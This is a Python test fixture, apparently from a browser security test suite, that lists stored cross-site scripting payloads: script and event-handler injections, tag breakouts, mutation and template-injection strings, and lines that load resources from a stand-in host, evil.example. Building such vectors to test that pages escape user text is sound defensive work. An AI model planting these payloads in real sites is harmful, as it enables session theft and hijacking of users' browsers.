"""What people write who want to be run: stored cross-site scripting, a vector for every place a text may stand in."""

from __future__ import annotations

from tests.browser.looking import OWNED

VECTORS = (
    f"<script>{OWNED}('script')</script>",
    f"<img src=x onerror={OWNED}('img')>",
    f"<svg/onload={OWNED}('svg')>",
    f"\"><svg onload={OWNED}('quote')>",
    f"' autofocus onfocus={OWNED}('apostrophe') x='",
    f"</title><script>{OWNED}('title')</script>",
    f"</style><script>{OWNED}('style')</script>",
    f"</textarea><script>{OWNED}('textarea')</script>",
    f"</script><script>{OWNED}('script-end')</script>",
    f"--><script>{OWNED}('comment')</script>",
    f"<iframe srcdoc=\"<script>parent.{OWNED}('srcdoc')</script>\"></iframe>",
    f"<details open ontoggle={OWNED}('details')>",
    f"<a href=\"javascript:{OWNED}('link')\" autofocus onfocus=\"{OWNED}('focus')\">x</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={OWNED}('mutation')>",
    f"&lt;script&gt;{OWNED}('entity')&lt;/script&gt;",
    f"\\u003cscript\\u003e{OWNED}('json')\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{OWNED}(1)')()}}}}${{{OWNED}('template')}}<% {OWNED}('erb') %>",
    f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>{OWNED}('svg-html')</script></foreignObject>",
    f"<base href='https://evil.example/'><link rel=stylesheet href=//evil.example/x><meta http-equiv=refresh content='0;url=javascript:{OWNED}(1)'>",  # noqa: E501
    f"<form action=//evil.example><button formaction=\"javascript:{OWNED}('form')\">x</button>",
    "<img src=//evil.example/pixel><style>@import '//evil.example/x.css'</style>",
    f"<script>alert('{OWNED}');document.title='owned'</script>",
)
CORPUS = " ".join(VECTORS)
